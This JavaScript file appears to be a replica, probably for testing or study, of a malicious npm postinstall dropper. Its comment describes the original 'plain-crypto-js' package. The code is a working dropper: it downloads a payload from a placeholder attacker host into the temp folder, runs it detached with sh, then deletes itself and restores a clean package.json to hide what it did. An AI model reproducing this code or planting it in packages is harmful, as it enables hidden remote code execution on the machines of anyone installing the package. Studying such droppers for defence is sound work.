// The dropper (replica of plain-crypto-js@4.2.1's setup.js, run by postinstall). On Linux the original
// fetched a remote-access trojan from its server into /tmp/ld.py and started it in the background; then it
// erased its tracks: it deleted itself and replaced package.json with a clean copy (package.md, which
// claims to be 4.2.0 and has no install script), so the installed folder looked harmless afterwards.
// This one fetches a stub from a listener on 127.0.0.1 and starts it with sh.
const fs = require('fs');
const os = require('os');
const http = require('http');
const { spawn } = require('child_process');

const guard = (f) => { try { f(); } catch (e) {} };
function cleanUp() {
  guard(() => fs.unlinkSync(__filename));
  guard(() => fs.renameSync(__dirname + '/package.md', __dirname + '/package.json'));
}
guard(() => {
  http.get('__ATTACKER__/6202033', (res) => {
    const target = os.tmpdir() + '/ld.py';
    const out = fs.createWriteStream(target);
    res.pipe(out);
    out.on('finish', () => out.close(() => {
      guard(() => spawn('sh', [target], { detached: true, stdio: 'ignore' }).on('error', () => {}).unref());
      cleanUp();
    }));
  }).on('error', cleanUp);
});
